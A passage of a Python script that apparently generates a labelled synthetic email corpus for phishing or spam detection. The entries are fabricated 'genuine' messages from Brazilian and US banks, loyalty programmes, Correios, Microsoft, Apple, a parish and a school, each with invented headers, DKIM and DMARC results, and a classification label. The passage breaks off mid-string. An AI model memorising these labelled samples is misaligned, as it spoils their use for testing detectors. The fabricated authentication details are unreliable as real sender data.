    # L8 --------------------------------------------------------------- Itaú Pix comprovante
    n = "itau-comprovante-pix-enviado"
    t = when(2023, 4, 20, 15, 8, 44)
    html = html_doc(card(
        row('<table width="100%"><tr><td style="background:#ec7000;padding:14px;color:#fff;font-family:Arial;font-size:20px"><b>Itaú</b></td></tr></table>', "0")
        + row('<p>Olá, Claudia</p><p>Você fez um <b>Pix</b> pelo app Itaú.</p><table style="font-size:14px"><tr><td>valor</td><td><b>R$ 350,00</b></td></tr>'
              '<tr><td>para</td><td>Rafael M. Fonseca</td></tr><tr><td>instituição</td><td>Banco Inter S.A.</td></tr><tr><td>data</td><td>20/04/2023 às 12:08</td></tr>'
              '<tr><td>ID da transação</td><td>E60701190202304201508' + alnum(n, 11) + '</td></tr></table>'
              '<p>Se você não reconhece esta transação, ligue para 4004 4828 (capitais) ou 0800 970 4828.</p>')
        + row('<p style="font-size:11px;color:#888">Itaú Unibanco S.A. Este é um e-mail automático, por favor não responda. O Itaú não envia links para atualização de dados ou token.</p>')))
    plain = ("Olá, Claudia\n\nVocê fez um Pix pelo app Itaú.\nvalor: R$ 350,00\npara: Rafael M. Fonseca\ninstituição: Banco Inter S.A.\ndata: 20/04/2023 às 12:08\n\n"
             "Se você não reconhece esta transação, ligue para 4004 4828 (capitais) ou 0800 970 4828.\n")
    mail(n, "bulk", "Genuine Itaú Pix-sent confirmation from itau.com.br (DKIM/DMARC p=reject pass) with the bank's published phone numbers and no link.",
         prov="uol", rcpt=R_UOL, t=t, tz=SP,
         frm=addr("Itaú", "comprovante@itau.com.br"), subj="Comprovante de Pix - R$ 350,00",
         body=alt(plain, html, f"----=_Part_{num(n, 10**5, 10**6)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf="bounce-comprovante@itau.com.br", ip="200.196.152.41", helo="smtpx1.itau.com.br", rdns="smtpx1.itau.com.br",
         dkim=[("itau.com.br", "itau2048", "pass")], dmarc=("pass", "REJECT"), mid=f"<{num(n, 10**8, 10**9)}.{num(n + 'x', 10**5, 10**6)}.{ts(t) * 1000}@srvmail-pix.itau>")

    # L9 --------------------------------------------------------------- Livelo extrato with points expiring (genuine)
    n = "livelo-extrato-pontos-expirando"
    t = when(2024, 7, 3, 13, 30, 5)
    c = "click.news.livelo.com.br"
    html = html_doc(hidden("Confira seu extrato de junho e os pontos que vencem em julho") + card(
        row('<img src="https://image.news.livelo.com.br/lib/fe3b11727564047a7c1d/m/1/logo-livelo.png" width="120" alt="Livelo">', "22px 32px 0")
        + row('<h2 style="color:#e6007e">Zeca, seu extrato de junho chegou</h2><table width="100%" style="background:#fdf0f7"><tr><td style="padding:14px">'
              'Saldo atual: <b>6.482 pontos</b><br>Pontos que vencem em 31/07/2024: <b>1.150 pontos</b></td></tr></table>'
              '<p>Use seus pontos antes do vencimento em produtos, viagens ou transfira para programas parceiros.</p>')
        + row(button(sfmc(n, c, "c1"), "Ver extrato completo", "#e6007e"), "4px 32px 22px")
        + row(f'<p style="font-size:11px;color:#888">Livelo S.A. A Livelo não envia e-mails pedindo senha ou dados do cartão. '
              f'<a href="https://cloud.news.livelo.com.br/preferencias?qs={hx(n + "u", 64)}" style="color:#888">Gerenciar preferências</a></p>'
              + pixel(f"https://{c}/open.aspx?ffcb10-{hx(n + 'o', 24)}")))
        )
    plain = (f"Zeca, seu extrato de junho chegou\nSaldo atual: 6.482 pontos\nPontos que vencem em 31/07/2024: 1.150 pontos\n\nVer extrato completo: {sfmc(n, c, 'c1')}\n")
    mail(n, "bulk", "Genuine Livelo monthly statement that does warn of points expiring, sent via Salesforce Marketing Cloud on news.livelo.com.br with aligned DKIM and List-Unsubscribe.",
         prov="uol", rcpt=R_BOL, t=t, tz=UTC,
         frm=addr("Livelo", "livelo@news.livelo.com.br"), subj="Zeca, confira seu extrato: 1.150 pontos vencem em julho",
         body=alt(plain, html, f"----=_Part_{num(n, 10**6, 10**7)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf=f"bounce-{num(n, 100, 999)}_HTML-{num(n + 'a', 10**8, 10**9)}-{num(n + 'b', 10**6, 10**7)}-{num(n + 'c', 10**6, 10**7)}@bounce.news.livelo.com.br",
         ip="13.111.88.141", helo="mta2.news.livelo.com.br", rdns="mta2.news.livelo.com.br",
         dkim=[("news.livelo.com.br", "200608", "pass")], dmarc=("pass", "QUARANTINE"), mid=f"<{uuid(n + 'm')}@ind1s06mta872.xt.local>",
         extra=[f"List-Unsubscribe: <mailto:leave-{hx(n + 'l', 40)}@leave.news.livelo.com.br>", f"x-job: 514003512_{num(n, 1000000, 9999999)}"])

    # L10 -------------------------------------------------------------- Smiles miles expiring (genuine)
    n = "smiles-milhas-vencendo-genuino"
    t = when(2023, 9, 12, 14, 22, 19)
    link = f"https://www.smiles.com.br/minha-conta/extrato?utm_source=email&utm_medium=crm&utm_campaign=milhas_a_vencer_set23&utm_content={hx(n, 8)}"
    html = html_doc(card(
        row('<img src="https://static.smiles.com.br/email/logo-smiles-laranja.png" width="130" alt="Smiles">', "22px 32px 0")
        + row('<h2 style="color:#ff5a00">Marcos, você tem milhas vencendo</h2><p>Em <b>30/09/2023</b> vencem <b>3.200 milhas</b> da sua conta Smiles.</p>'
              '<p>Que tal usar em uma passagem, em produtos do Shopping Smiles ou renovar as milhas pelo Clube Smiles?</p>')
        + row(button(link, "Ver meu extrato", "#ff5a00"), "4px 32px 22px")
        + row(f'<p style="font-size:11px;color:#888">Smiles Fidelidade S.A. Para não receber mais nossas comunicações, '
              f'<a href="https://www.smiles.com.br/descadastro?e={hx(n + "d", 32)}" style="color:#888">clique aqui</a>.</p>')))
    plain = f"Marcos, você tem milhas vencendo\nEm 30/09/2023 vencem 3.200 milhas da sua conta Smiles.\n\nVer meu extrato: {link}\n"
    mail(n, "bulk", "Genuine Smiles 'miles expiring' CRM mail from smiles.com.br (DKIM/DMARC pass) linking only to smiles.com.br with UTM tags: same story as the phishing, done right.",
         prov="outlook", rcpt=R_HOT, t=t, tz=UTC,
         frm=addr("Smiles", "smiles@news.smiles.com.br"), subj="Marcos, você tem 3.200 milhas vencendo em setembro",
         body=alt(plain, html, hx(n, 32)), mf=f"bounce-{hx(n, 20)}@news.smiles.com.br", ip="185.211.121.22", helo="mta22.news.smiles.com.br", rdns="mta22.news.smiles.com.br",
         dkim=[("news.smiles.com.br", "k1", "pass")], dmarc=("pass", "REJECT"), mid=f"<{hx(n + 'm', 24)}.{num(n, 1000, 9999)}@news.smiles.com.br>",
         extra=[f"List-Unsubscribe: <https://www.smiles.com.br/descadastro?e={hx(n + 'd', 32)}>, <mailto:unsubscribe-{hx(n + 'l', 24)}@news.smiles.com.br>",
                "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])

    # L11 -------------------------------------------------------------- Correios saiu para entrega
    n = "correios-saiu-para-entrega"
    t = when(2024, 5, 14, 11, 6, 49)
    plain = ("Olá,\n\nO objeto QQ194730261BR saiu para entrega ao destinatário.\n\nÚltima atualização: 14/05/2024 08:02 - CDD Porto Alegre Norte - RS\n\n"
             "Acompanhe em: https://rastreamento.correios.com.br/app/index.php?objetos=QQ194730261BR\n\n"
             "Os Correios não enviam e-mails ou SMS com cobrança de taxas para liberação de encomendas. Pagamentos de importação são feitos somente no "
             "portal Minhas Importações.\n\nEsta é uma mensagem automática, não responda.\nCorreios\n")
    mail(n, "bulk", "Genuine Correios tracking notification from correios.com.br (SPF/DKIM pass), plain text, tracking link on rastreamento.correios.com.br, explicitly no fee.",
         prov="terra", rcpt=R_TER, t=t, tz=SP,
         frm=addr("Correios", "naoresponda@correios.com.br"), subj="Objeto QQ194730261BR saiu para entrega",
         body=text(plain, "plain", "quoted-printable", "utf-8"), mf="naoresponda@correios.com.br", ip="200.252.60.33", helo="smtp2.correios.com.br", rdns="smtp2.correios.com.br",
         dkim=[("correios.com.br", "correios", "pass")], dmarc=("pass", "NONE"), mid=f"<{num(n, 10**9, 10**10)}.{num(n + 'a', 10**5, 10**6)}.JavaMail.sroweb@app-sro-04>",
         extra=["X-Mailer: Java Mail API"])

    # L12 -------------------------------------------------------------- Microsoft unusual sign-in PT
    n = "microsoft-atividade-incomum"
    t = when(2023, 2, 1, 3, 41, 6)
    html = ('<html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table dir="ltr"><tr><td style="padding:0;font-family:\'Segoe UI Semibold\',\'Segoe UI Bold\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:17px;color:#707070;">Conta Microsoft</td></tr>'
            '<tr><td style="padding:0;font-family:\'Segoe UI Light\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:41px;color:#2672ec;">Atividade de entrada incomum</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            'Detectamos algo incomum sobre uma entrada recente na conta da Microsoft <a dir="ltr" style="color:#2672ec;text-decoration:none" href="mailto:' + R_HOT + '">ma*****@hotmail.com</a>.</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;"><b>Detalhes da entrada</b><br>'
            'País/região: Portugal<br>Endereço IP: 185.92.211.40<br>Data: 31/01/2023 22:37 (GMT)<br>Plataforma: Windows 10<br>Navegador: Chrome</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            'Se foi você, ignore esta mensagem. Caso contrário, ajude-nos a proteger sua conta:</td></tr>'
            '<tr><td style="padding:0;padding-top:25px"><a href="https://account.live.com/Activity?ref=email&amp;lang=pt-BR" style="background-color:#2672ec;color:#fff;padding:5px 20px;text-decoration:none;font-family:\'Segoe UI\',Arial">Examinar atividade recente</a></td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Para cancelar o recebimento ou mudar o local para onde enviamos os alertas de segurança, '
            '<a href="https://account.live.com/SecurityNotifications/Update" style="color:#2672ec">clique aqui</a>.</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Obrigado,<br>Equipe de contas da Microsoft</td></tr></table></body></html>\n')
    plain = ("Conta Microsoft\nAtividade de entrada incomum\n\nDetectamos algo incomum sobre uma entrada recente na conta da Microsoft ma*****@hotmail.com.\n\n"
             "Detalhes da entrada\nPaís/região: Portugal\nEndereço IP: 185.92.211.40\nData: 31/01/2023 22:37 (GMT)\nPlataforma: Windows 10\nNavegador: Chrome\n\n"
             "Examinar atividade recente: https://account.live.com/Activity?ref=email&lang=pt-BR\n\nObrigado,\nEquipe de contas da Microsoft\n")
    mail(n, "bulk", "Genuine Microsoft account 'unusual sign-in activity' alert from accountprotection.microsoft.com (DKIM/DMARC p=reject pass), links only to account.live.com.",
         prov="outlook", rcpt=R_HOT, t=t, tz=UTC,
         frm=addr("Equipe de contas da Microsoft", "account-security-noreply@accountprotection.microsoft.com"), subj="Atividade de entrada incomum na conta da Microsoft",
         body=alt(plain, html, bnd("next", n)), mf="account-security-noreply@accountprotection.microsoft.com", ip="40.92.19.24",
         helo="NAM12-MW2-obe.outbound.protection.outlook.com", rdns="mail-mw2nam12olkn2024.outbound.protection.outlook.com",
         dkim=[("accountprotection.microsoft.com", "selector1", "pass")], dmarc=("pass", "REJECT"),
         mid=f"<{alnum(n, 10, True)}@BN7NAM10FT046.eop-nam10.prod.protection.outlook.com>", extra=["X-MSAPipeline: MessageDispatcherEOP", "X-MessageType: SecurityNotification"])

    # L13 -------------------------------------------------------------- Apple iCloud+ receipt
    n = "apple-icloud-receipt"
    t = when(2024, 10, 2, 20, 9, 57)
    html = html_doc(card(
        row('<p style="font-size:36px;margin:0;color:#333">&#63743;</p>', "20px 32px 0")
        + row('<h2>Receipt</h2><table width="100%" style="font-size:12px;color:#666"><tr><td>APPLE ACCOUNT<br>' + R_GM2 + '</td><td>DATE<br>Oct 2, 2024</td>'
              '<td>ORDER ID<br>MT4K' + alnum(n, 6, True) + '</td><td>DOCUMENT NO.<br>' + str(num(n, 10**11, 10**12)) + '</td></tr></table>'
              '<table width="100%" style="margin-top:14px"><tr><td><b>iCloud+ with 200 GB</b><br><small>Monthly · Renews Nov 2, 2024</small></td><td align="right">$2.99</td></tr>'
              '<tr><td style="padding-top:10px">Tax</td><td align="right">$0.21</td></tr><tr><td><b>TOTAL</b></td><td align="right"><b>$3.20</b></td></tr></table>'
              '<p>Billed to: Visa •••• 2210</p>'
              '<p style="font-size:12px"><a href="https://reportaproblem.apple.com/">Report a Problem</a> · '
              '<a href="https://apps.apple.com/account/subscriptions">Manage Subscriptions</a></p>')
        + row('<p style="font-size:11px;color:#888">Apple Media Services Terms and Conditions. Apple ID Summary · Purchase History<br>'
              'Copyright © 2024 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</p>')), lang="en")
    plain = (f"Receipt\n\nAPPLE ACCOUNT: {R_GM2}\nDATE: Oct 2, 2024\n\niCloud+ with 200 GB (Monthly, renews Nov 2, 2024)  $2.99\nTax  $0.21\nTOTAL  $3.20\n\n"
             "Report a Problem: https://reportaproblem.apple.com/\n")
    mail(n, "bulk", "Genuine Apple iCloud+ monthly receipt from no_reply@email.apple.com (DKIM/DMARC p=reject pass), links to reportaproblem.apple.com and apps.apple.com.",
         prov="gmail", rcpt=R_GM2, t=t, tz=UTC,
         frm=addr("Apple", "no_reply@email.apple.com"), subj="Your receipt from Apple.",
         body=alt(plain, html, bnd("apple", n)), mf="no_reply@email.apple.com", ip="17.111.110.47", helo="rn2-txn-msbadger06104.apple.com", rdns="rn2-txn-msbadger06104.apple.com",
         dkim=[("email.apple.com", "email0517", "pass")], dmarc=("pass", "REJECT"), mid=f"<{uuid(n, True)}@email.apple.com>",
         extra=["X-Email-Type-Id: 1013", "X-Apple-Request-UUID: " + uuid(n + "req")])

    # L14 -------------------------------------------------------------- Chase statement ready
    n = "chase-statement-ready"
    t = when(2023, 5, 4, 11, 27, 30)
    html = html_doc(card(
        row('<img src="https://www.chase.com/content/dam/email/images/chase-logo-h-rgb.png" width="130" alt="Chase">', "22px 32px 0")
        + row('<h2>Your credit card statement is ready</h2><table width="100%" style="font-size:14px"><tr><td>Account</td><td align="right">Freedom Unlimited (...8836)</td></tr>'
              '<tr><td>Statement balance</td><td align="right">$842.17</td></tr><tr><td>Minimum payment</td><td align="right">$40.00</td></tr>'
              '<tr><td>Payment due date</td><td align="right">May 29, 2023</td></tr></table>'
              '<p>You can see your statement by signing in at chase.com or in the Chase Mobile&reg; app.</p>'
              '<p><a href="https://secure.chase.com/web/auth/nav?navKey=requestDocumentsAndStatements">View statement</a></p>')
        + row('<p style="font-size:11px;color:#717171">Securely access your accounts with the Chase Mobile&reg; app or chase.com. '
              'This service email was sent to you because you have a Chase account. Chase will never ask for your password by email.<br>'
              'JPMorgan Chase Bank, N.A. Member FDIC © 2023 JPMorgan Chase &amp; Co.</p>')), lang="en")
    plain = ("Your credit card statement is ready\n\nAccount: Freedom Unlimited (...8836)\nStatement balance: $842.17\nMinimum payment: $40.00\n"
             "Payment due date: May 29, 2023\n\nSign in at chase.com or use the Chase Mobile app to see your statement.\n")
    mail(n, "bulk", "Genuine Chase credit-card statement notification from no.reply.alerts@chase.com (DKIM/DMARC p=reject pass) with a secure.chase.com link.",
         prov="yahoo", rcpt=R_YH, t=t, tz=NY,
         frm=addr("Chase", "no.reply.alerts@chase.com"), subj="Your credit card statement is ready",
         body=alt(plain, html, bnd("next", n)), mf="no.reply.alerts@chase.com", ip="159.53.110.22", helo="sgmsmtp23.chase.com",
         dkim=[("chase.com", "d4815", "pass")], dmarc=("pass", "REJECT"), mid=f"<{num(n, 10**9, 10**10)}.{num(n + 'a', 10**6, 10**7)}@ecsm.chase.com>")

    # L15 -------------------------------------------------------------- Banco Inter newsletter
    n = "inter-newsletter-cashback"
    t = when(2024, 3, 20, 16, 0, 12)
    c = "click.comunicacao.bancointer.com.br"
    html = html_doc(hidden("Cashback em dobro no Inter Shop até domingo") + card(
        row(f'<a href="{sfmc(n, c, "h")}"><img src="https://image.comunicacao.bancointer.com.br/lib/fe3611737164047e/m/1/inter-shop-cashback.png" width="600" alt="Inter Shop" style="display:block;width:100%"></a>', "0")
        + row('<h2 style="color:#ff7a00">Cashback em dobro no Inter Shop</h2><p>Até domingo, compras em lojas parceiras no Inter Shop dão o <b>dobro de cashback</b> '
              'direto na sua conta. Aproveite também o Inter Loop: seus pontos valem mais nesta semana.</p>')
        + row(button(sfmc(n, c, "c1"), "Ver ofertas no app", "#ff7a00"), "4px 32px 22px")
        + row(f'<p style="font-size:11px;color:#888">Banco Inter S.A. - CNPJ 00.416.968/0001-01. O Inter nunca pede senha ou código por e-mail. '
              f'<a href="https://cloud.comunicacao.bancointer.com.br/descadastro?qs={hx(n + "u", 64)}" style="color:#888">Descadastrar</a></p>'
              + pixel(f"https://{c}/open.aspx?ffcb10-{hx(n + 'o', 24)}"))))
    plain = f"Cashback em dobro no Inter Shop até domingo.\nVer ofertas: {sfmc(n, c, 'c1')}\n"
    mail(n, "bulk", "Genuine Banco Inter marketing newsletter via Salesforce Marketing Cloud (DKIM aligned, List-Unsubscribe), links through its own click-tracking host.",
         prov="gmail", rcpt=R_GM1, t=t, tz=UTC,
         frm=addr("Inter", "inter@comunicacao.bancointer.com.br"), subj="Cashback em dobro no Inter Shop até domingo 🧡",
         body=alt(plain, html, f"----=_Part_{num(n, 10**6, 10**7)}_{num(n + 'b', 10**8, 10**9)}.{ts(t) * 1000}"),
         mf=f"bounce-{num(n, 100, 999)}_HTML-{num(n + 'a', 10**8, 10**9)}-{num(n + 'b', 10**6, 10**7)}-{num(n + 'c', 10**6, 10**7)}@bounce.comunicacao.bancointer.com.br",
         ip="13.111.64.19", helo="mta3.comunicacao.bancointer.com.br", rdns="mta3.comunicacao.bancointer.com.br",
         dkim=[("comunicacao.bancointer.com.br", "200608", "pass")], dmarc=("pass", "REJECT"), mid=f"<{uuid(n + 'm')}@ind1s01mta4470.xt.local>",
         extra=[f"List-Unsubscribe: <https://cloud.comunicacao.bancointer.com.br/descadastro?qs={hx(n + 'u', 64)}>, <mailto:leave-{hx(n + 'l', 40)}@leave.comunicacao.bancointer.com.br>",
                "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"x-job: 110007402_{num(n, 1000000, 9999999)}"])

    # L16 -------------------------------------------------------------- Parish newsletter via Mailchimp
    n = "paroquia-informativo-mailchimp"
    t = when(2023, 12, 15, 19, 30, 4)
    u, lid = hx(n + "u", 25), hx(n + "l", 10)
    def mc(tok):
        return f"https://paroquiasaojudasvila.us21.list-manage.com/track/click?u={u}&id={hx(n + tok, 10)}&e={hx(n + 'e', 10)}"
    html = html_doc(card(
        row('<h1 style="color:#7a1f1f;font-family:Georgia,serif">Paróquia São Judas Tadeu</h1><p style="color:#777">Informativo semanal - 3º Domingo do Advento</p>')
        + row('<p>Queridos irmãos e irmãs,</p><p>Estamos chegando ao Natal! Confiram os horários das celebrações:</p>'
              '<ul><li><b>Novena de Natal</b>: 16 a 24/12, às 19h30, nas casas dos grupos de rua</li><li><b>Missa da Noite de Natal</b>: 24/12 às 20h</li>'
              '<li><b>Missa de Natal</b>: 25/12 às 8h, 10h e 18h</li><li><b>Confissões</b>: 20/12, das 14h às 20h, com padres convidados</li></ul>'
              '<p>A <b>Campanha do Quilo</b> segue até o dia 22: traga alimentos não perecíveis para as cestas da Pastoral Social.</p>'
              f'<p><a href="{mc("f")}">Veja as fotos do Auto de Natal das crianças da catequese</a></p>'
              '<p>Dízimo e doações: Pix CNPJ 61.374.922/0001-08 (Mitra Diocesana - Paróquia São Judas Tadeu).</p><p>Fraternalmente,<br>Pe. Antônio Carlos e equipe paroquial</p>')
        + row(f'<p style="font-size:11px;color:#888">Você recebe este informativo porque se cadastrou na secretaria paroquial.<br>'
              f'<a href="https://paroquiasaojudasvila.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(n + "e", 10)}&c={hx(n + "c", 10)}">Cancelar inscrição</a> · '
              f'<a href="https://paroquiasaojudasvila.us21.list-manage.com/profile?u={u}&id={lid}&e={hx(n + "e", 10)}">Atualizar preferências</a><br>'
              'Rua Frei Caneca, 418 - Vila Guilherme - São Paulo/SP</p>' + pixel(f"https://paroquiasaojudasvila.us21.list-manage.com/track/open.php?u={u}&id={hx(n + 'o', 10)}&e={hx(n + 'e', 10)}"))))
    plain = ("Paróquia São Judas Tadeu - Informativo semanal\n\nNovena de Natal: 16 a 24/12, 19h30\nMissa da Noite de Natal: 24/12 às 20h\n"
             "Missa de Natal: 25/12 às 8h, 10h e 18h\nConfissões: 20/12, 14h às 20h\n\nCampanha do Quilo até 22/12.\n\nFotos do Auto de Natal: " + mc("f") + "\n")
    mail(n, "bulk", "Genuine parish weekly newsletter in Portuguese sent through Mailchimp (mcsv.net DKIM, list-manage.com tracking, List-Unsubscribe), includes a Pix CNPJ for donations.",
         prov="uol", rcpt=R_UOL, t=t, tz=UTC,
         frm=addr("Paróquia São Judas Tadeu", "secretaria@paroquiasaojudasvila.org.br"), subj="Informativo Paroquial - Horários de Natal e Campanha do Quilo",
         body=alt(plain, html, f"_----------=_MCPart_{num(n, 10**8, 10**9)}"),
         mf=f"bounce-mc.us21_{num(n, 10**7, 10**8)}.{num(n + 'c', 10**6, 10**7)}-{hx(n + 'e', 10)}@mail{num(n, 10, 250)}.atl281.mcdlv.net",
         ip="198.2.180.33", helo="mail180-33.suw21.mandrillapp.com", rdns="mail180-33.suw21.mcdlv.net",
         dkim=[("mcsv.net", "k2", "pass"), ("mcdlv.net", "k3", "pass")],
         mid=f"<{hx(n + 'mid', 32)}@paroquiasaojudasvila.us21.list-manage.com>",
         extra=[f"List-Unsubscribe: <https://paroquiasaojudasvila.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={hx(n + 'e', 10)}&c={hx(n + 'c', 10)}>, <mailto:unsubscribe-mc.us21_{u}.{hx(n + 'c', 10)}-{hx(n + 'e', 10)}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
                "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"X-Campaign: mailchimp{u}.{hx(n + 'c', 10)}", f"X-campaignid: mailchimp{u}.{hx(n + 'c', 10)}",
                f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={hx(n + 'c', 10)}&e={hx(n + 'e', 10)}",
                f"X-MC-User: {u}", "X-Accounttype: ff", f"List-ID: {u}mc list <{u}.{num(n, 100000, 999999)}.list-id.mcsv.net>", "Precedence: bulk"])

    # L17 -------------------------------------------------------------- School notice via Google Group with PDF
    n = "colegio-circular-google-group"
    t = when(2024, 4, 18, 17, 12, 33)
    pdfb = files.pdf(["Colegio Santa Ines - Circular 14/2024", "", "Senhores pais e responsaveis do 6o ano,", "",
                      "Informamos que no dia 26/04 (sexta-feira) os alunos do 6o ano farao visita pedagogica",
                      "ao Museu Catavento. Saida as 7h30 e retorno previsto as 12h30.", "Valor: R$ 65,00 (transporte, ingresso e lanche).",
                      "Pagamento pelo boleto enviado no app da escola ate 23/04.", "", "Secretaria Escolar"], title="Circular 14-2024")
    plain = ("Senhores pais e responsáveis,\n\nSegue em anexo a Circular 14/2024 sobre a visita pedagógica do 6º ano ao Museu Catavento no dia 26/04.\n"
             "A autorização assinada deve ser entregue na agenda até 23/04. O pagamento é feito pelo boleto disponível no app da escola.\n\n"
             "Atenciosamente,\nSecretaria Escolar\nColégio Santa Inês\n(11) 2951-3380\n\n--\n"
             "Você recebeu essa mensagem porque está inscrito no grupo \"Pais 6º ano 2024\" dos Grupos do Google.\n"
             "Para cancelar inscrição nesse grupo e parar de receber e-mails dele, envie um e-mail para pais-6ano-2024+unsubscribe@colegiosantaines.edu.br.\n")
    html = ('<div dir="ltr"><div>Senhores pais e responsáveis,</div><div><br></div><div>Segue em anexo a Circular 14/2024 sobre a visita pedagógica do 6º ano ao '
            '<b>Museu Catavento</b> no dia 26/04.</div><div>A autorização assinada deve ser entregue na agenda até 23/04. O pagamento é feito pelo boleto disponível no app da escola.</div>'
            '<div><br></div><div>Atenciosamente,</div><div>Secretaria Escolar<br>Colégio Santa Inês<br>(11) 2951-3380</div></div>\n'
            '<p></p>\n\n-- <br />\nVocê recebeu essa mensagem porque está inscrito no grupo "Pais 6º ano 2024" dos Grupos do Google.<br />\n'
            'Para cancelar inscrição nesse grupo e parar de receber e-mails dele, envie um e-mail para <a href="mailto:pais-6ano-2024+unsubscribe@colegiosantaines.edu.br">pais-6ano-2024+unsubscribe@colegiosantaines.edu.br</a>.<br />\n')
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [text(plain), text(html, "html")]),
                                            att("application/pdf", "Circular 14-2024 - Visita Catavento.pdf", pdfb)])
    mail(n, "bulk", "Genuine school circular sent by the secretary to a parents' Google Group on the school's Google Workspace (List-* headers, DKIM pass), PDF circular attached.",
         prov="uol", rcpt=R_BOL, t=t, tz=SP,
         frm=addr("Secretaria Colégio Santa Inês", "secretaria@colegiosantaines.edu.br"), to=addr("Pais 6º ano 2024", "pais-6ano-2024@colegiosantaines.edu.br"),
         subj="[Pais 6º ano 2024] Circular 14/2024 - Visita ao Museu Catavento",
         body=body, mf=f"pais-6ano-2024+bncBD{alnum(n, 40)}@colegiosantaines.edu.br", ip="209.85.160.199", helo="mail-qt1-f199.google.com", rdns="mail-qt1-f199.google.com",
         dkim=[("colegiosantaines.edu.br", "google", "pass")], dmarc=("pass", "NONE"), mid=mid_gmail(n),
         order=["From", "Date", "Message-ID", "Subject", "To"],
         extra=["X-Original-Sender: secretaria@colegiosantaines.edu.br", "Precedence: list", "Mailing-list: list pais-6ano-2024@colegiosantaines.edu.br; contact pais-6ano-2024+owners@colegiosantaines.edu.br",
                "List-ID: <pais-6ano-2024.colegiosantaines.edu.br>", "X-Google-Group-Id: " + str(num(n, 10**11, 10**12)),
                "List-Post: <https://groups.google.com/a/colegiosantaines.edu.br/group/pais-6ano-2024/post>, <mailto:pais-6ano-2024@colegiosantaines.edu.br>",
                "List-Help: <https://support.google.com/a/colegiosantaines.edu.br/bin/topic.py?topic=25838>, <mailto:pais-6ano-2024+help@colegiosantaines.edu.br>",
                "List-Unsubscribe: <mailto:googlegroups-manage+" + str(num(n, 10**11, 10**12)) + "+unsubscribe@googlegroups.com>,\n <https://groups.google.com/a/colegiosantaines.edu.br/group/pais-6ano-2024/subscribe>"])

    # L18 -------------------------------------------------------------- friend photos PT (Gmail)
    n = "amiga-fotos-aniversario"
    t = when(2024, 7, 22, 21, 47, 15)
    plain = ("Rê!!! Finalmente consegui separar as fotos do aniversário da Lulu, desculpa a demora 😅\n\n"
             "Mandei só algumas aqui, o resto tá no álbum do Google Fotos que te passei no zap. A da mesa do bolo ficou linda, "
             "obrigada de novo pelos docinhos, todo mundo perguntou de onde era!\n\nBora marcar aquele café semana que vem?\n\nBeijo grande,\nFê\n")
    html = ('<div dir="ltr"><div>Rê!!! Finalmente consegui separar as fotos do aniversário da Lulu, desculpa a demora 😅</div><div><br></div>'
            '<div>Mandei só algumas aqui, o resto tá no álbum do Google Fotos que te passei no zap. A da mesa do bolo ficou linda, obrigada de novo pelos docinhos, '
            'todo mundo perguntou de onde era!</div><div><br></div><div>Bora marcar aquele café semana que vem?</div><div><br></div><div>Beijo grande,</div><div>Fê</div></div>\n')
    body = Multi("mixed", bnd("gmail", n), [Multi("alternative", bnd("gmail", n + "a"), [text(plain, "plain", "quoted-printable"), text(html, "html")]),
                                            att("image/jpeg", "IMG_20240720_163412.jpg", files.photo_jpeg(18)),
                                            att("image/jpeg", "IMG_20240720_171055.jpg", files.photo_jpeg(81))])
    mail(n, "clean", "Personal mail from a friend's Gmail with two party photos attached and casual Portuguese, mentioning a shared album but containing no link.",
         prov="gmail", rcpt=R_GM1, t=t, tz=SP,
         frm=addr("Fernanda Lopes", "fe.lopes.arq@gmail.com"), subj="Fotos do niver da Lulu 🎂",
         body=body, mf="fe.lopes.arq@gmail.com", ip="209.85.220.41", helo="mail-sor-f41.google.com",
         dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), mid=mid_gmail(n), order=["From", "Date", "Message-ID", "Subject", "To"])

    # L19 -------------------------------------------------------------- forwarded chain letter from aunt (BOL -> Terra)
    n = "tia-corrente-oracao-encaminhada"
    t = when(2022, 10, 11, 8, 3, 29)
    inner = ("<div><b>De:</b> Marlene Guedes &lt;marleneguedes@uol.com.br&gt;<br><b>Enviada:</b> segunda-feira, 10 de outubro de 2022 21:14<br>"
             "<b>Para:</b> celia.pires1952@bol.com.br; irene.sobral@terra.com.br; grupo-oracao-sjb@googlegroups.com<br><b>Assunto:</b> ENC: FW: ORAÇÃO PODEROSA DE SÃO BENTO - NÃO QUEBRE A CORRENTE</div><br>"
             "<div style='font-family:Comic Sans MS;font-size:16px;color:#000080;text-align:center'>🙏🙏🙏 <b>ORAÇÃO DE SÃO BENTO</b> 🙏🙏🙏<br><br>"
             "A Cruz Sagrada seja a minha luz,<br>não seja o dragão o meu guia.<br>Retira-te, satanás!<br>Nunca me aconselhes coisas vãs.<br>"
             "É mau o que tu me ofereces,<br>bebe tu mesmo os teus venenos!<br><br>"
             "<font color='red'><b>REPASSE PARA 10 PESSOAS QUE VOCÊ AMA E EM 10 DIAS RECEBERÁ UMA GRAÇA!!!</b></font><br>"
